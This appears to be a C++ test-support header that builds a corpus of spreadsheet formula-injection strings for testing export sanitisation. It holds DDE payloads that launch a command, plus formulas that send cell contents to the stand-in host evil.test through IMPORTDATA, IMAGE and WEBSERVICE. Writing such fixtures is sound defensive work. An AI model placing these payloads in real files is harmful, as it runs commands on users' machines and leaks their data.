// Texts that a spreadsheet would take for a formula, a command or a number if they were typed (security.md
// S-06).
#pragma once

#include <string>
#include <vector>

namespace sv::support {

// Valid UTF-8, each different from the others, none blank.
inline std::vector<std::string> formula_corpus() {
  std::vector<std::string> texts;
  const std::vector<std::string> payloads = {"1+1",
                                             "SUM(A1:A9)",
                                             "cmd|'/C calc'!A0",
                                             "HYPERLINK(\"http://evil.test\",\"x\")",
                                             "HYPERLINK(\"http://evil.test\";\"x\")",
                                             "IMPORTXML(\"http://evil.test\",\"//a\")",
                                             "IMAGE(\"http://evil.test/\"&A1)",
                                             "WEBSERVICE(\"http://evil.test\")"};
  for (const char* lead : {"=", "+", "-", "@", "\t=", "\r=", "\n=", " ="}) {
    for (const std::string& payload : payloads) texts.push_back(lead + payload);
  }
  for (const char* text : {"\xEF\xBB\xBF=1+1",
                           "\xE2\x80\x8B=1+1",
                           "\xC2\xA0=1+1",
                           "\xEF\xBC\x9D"
                           "1+1",
                           "\xEF\xBC\x8B"
                           "1",
                           "\xEF\xBC\x8D"
                           "1",
                           "\xEF\xBC\xA0"
                           "SUM(A1)",
                           "'=1+1",
                           "''=1+1",
                           "\"=1+1",
                           "\";=1+1;\"",
                           "a\";=1+1;\"b",
                           "a;=1+1",
                           "a,=1+1",
                           "a\n=1+1",
                           "a\r\n=cmd|'/C calc'!A0",
                           "a\",\"=1+1\",\"b",
                           "+1",
                           "-2+3",
                           "+7 900 000-00-00",
                           "@mention",
                           "=",
                           "-",
                           "–1",
                           "0042",
                           "1e5",
                           "TRUE",
                           "2026-01-01",
                           "1/2",
                           "#REF!",
                           "DDE(\"cmd\";\"/C calc\";\"x\")",
                           "=DDE(\"cmd\";\"/C calc\";\"x\")",
                           "=IMPORTDATA(\"http://evil.test?\"&CONCATENATE(A1:Z9))",
                           "=IMPORTRANGE(\"x\",\"A1\")",
                           "=QUERY(A:A)",
                           "%0A=1+1"}) {
    texts.emplace_back(text);
  }
  return texts;
}

}  // namespace sv::support
